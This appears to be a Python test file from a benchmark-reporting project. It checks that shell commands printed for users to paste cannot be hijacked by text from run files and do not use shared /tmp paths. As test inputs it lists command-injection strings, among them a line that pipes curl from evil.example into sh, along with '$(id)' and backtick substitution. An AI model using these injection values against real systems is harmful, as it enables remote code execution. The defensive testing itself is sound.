"""The commands that are printed for people to paste: nothing of a run file acts in them, and no folder is shared."""

from __future__ import annotations

import ast
import re
import shlex
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from reports.records import runfile
from reports.records.schema import RunFile
from reports.render import advice, alerts, reproduce
from reports.verdicts.advice import Limits, advise
from reports.verdicts.compare import compare
from tests.builders import FUSED, PLAIN, proven_cell, run_document

ROOT = Path(__file__).resolve().parents[2]
SHARED = re.compile(r"/(?:tmp|var/tmp|dev/shm)/[\w$*{]")
"""A path below a folder that every user of a host may write to: another one can own it first."""

EVIL = st.sampled_from(
    [
        "'; curl evil.example | sh; '",
        "$(id)",
        "a`id`",
        "x\ny",
        '"',
        '"; id; "',
        "a & b",
        "> x",
        "\x1b[2J",
        "\u202e",
        "~",
        "*",
    ]
)
TEXT = EVIL | st.text(max_size=12) | st.builds("{}{}".format, st.just("pr"), EVIL)
OWN = ("base=$(mktemp -d)", '"$base"', "=$base")
"""What a shell is to act on in the commands: the suite's own."""


def hostile(draw: st.DataObject, memory: float, lane: str) -> RunFile:
    """A run with texts of somebody who means ill in all that commands are made of."""
    content: dict[str, Any] = run_document(
        [proven_cell(PLAIN, 1.0, memory), proven_cell(FUSED, 1.0, memory)],
        commit=draw.draw(TEXT | st.just("0123456789")),
        level=draw.draw(TEXT | st.just("pr")),
        lane=draw.draw(TEXT | st.just(lane)),
        drill=draw.draw(TEXT | st.just("")),
        overrides=draw.draw(st.dictionaries(TEXT | st.just("rounds"), st.floats(0, 1e9), max_size=2)),
    )
    source = draw.draw(TEXT | st.just("synthetic"))
    name = draw.draw(TEXT | st.just(FUSED))
    content["benchmarks"][1]["extra_info"]["cell"] = content["suite"]["cells"][1]["cell"] = name
    for benchmark in content["benchmarks"]:
        benchmark["extra_info"]["checkpoint"]["source"] = source
    return runfile.parse(content, "hostile")


def acts(command: str) -> str:
    """What a shell would do with a printed command beyond starting it with words; empty where there is nothing."""
    command = command.partition("   (")[0]
    if not command.isprintable():
        return "a character that is not seen"
    for own in OWN:
        command = command.replace(own, "")
    reader = shlex.shlex(command, posix=True, punctuation_chars=True)
    reader.whitespace_split = True
    operators = [word for word in reader if set(word) <= set("();<>|&")]
    unquoted = re.sub(r"'[^']*'", "", command)
    return " ".join(operators) + " ".join(re.findall(r"[$`\\!*?~#{}\[\]]", unquoted))


@given(st.data())
@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
def test_nothing_of_a_run_file_acts_in_a_command(draw: st.DataObject) -> None:
    base, head = hostile(draw, 100, "current"), hostile(draw, 200, "blog")
    comparison = compare(base, head, baseline="base.json")
    path = draw.draw(TEXT)
    commands = [
        *alerts.alert(base, head, comparison, reviewed=False).commands,
        *alerts.alert(base, head, comparison, reviewed=True).commands,
        *reproduce.next_commands(comparison, head, path),
        reproduce.measuring(head, list(head.cells)),
        advice.again(advise(head, "head.json", Limits())),
    ]
    assert [(command, acts(command)) for command in commands if acts(command)] == []
    assert len(commands) >= 3


@pytest.mark.parametrize("path", ["it's/run.json", "a b.json", "$(id).json", "-k.json", "a;b.json"])
def test_a_path_is_one_word_of_the_command(path: str) -> None:
    runs = [runfile.parse(run_document([proven_cell(PLAIN, 1.0, memory)]), "x") for memory in (100, 200)]
    (accept,) = [
        one for one in reproduce.next_commands(compare(*runs, baseline="b"), runs[1], path) if " accept " in one
    ]
    assert shlex.split(accept.partition("   (")[0]) == ["python", "-m", "reports", "accept", path]


def tracked(*patterns: str) -> list[Path]:
    """Files of the repository."""
    listed = subprocess.run(["git", "ls-files", "-z", *patterns], cwd=ROOT, capture_output=True, check=True, text=True)
    return [ROOT / name for name in listed.stdout.split("\0") if name and (ROOT / name).is_file()]


def texts() -> Iterator[tuple[Path, str]]:
    """What people read of the repository or what it prints: pages, workflows, recipes, strings of the source."""
    for path in tracked("*.md", "*.yml", "Makefile", ".ci", "*.j2", "*.js"):
        yield path, path.read_text(encoding="utf-8")
    for path in tracked("reports/*.py", "benchmarks/*.py", "fixtures/*.py", "conftest.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Constant) and isinstance(node.value, str):
                yield path, node.value


def test_no_command_names_a_fixed_path_in_a_folder_of_all_users() -> None:
    assert [(path, found[0]) for path, text in texts() if (found := SHARED.search(text))] == []


@pytest.mark.parametrize(
    "command", ["git worktree add /tmp/base", "--report-dir=/var/tmp/x", "cp a /dev/shm/a", "/tmp/$USER"]
)
def test_such_a_path_would_be_found(command: str) -> None:
    assert SHARED.search(command)
    assert not SHARED.search('git worktree add "$(mktemp -d)/base" ../base')
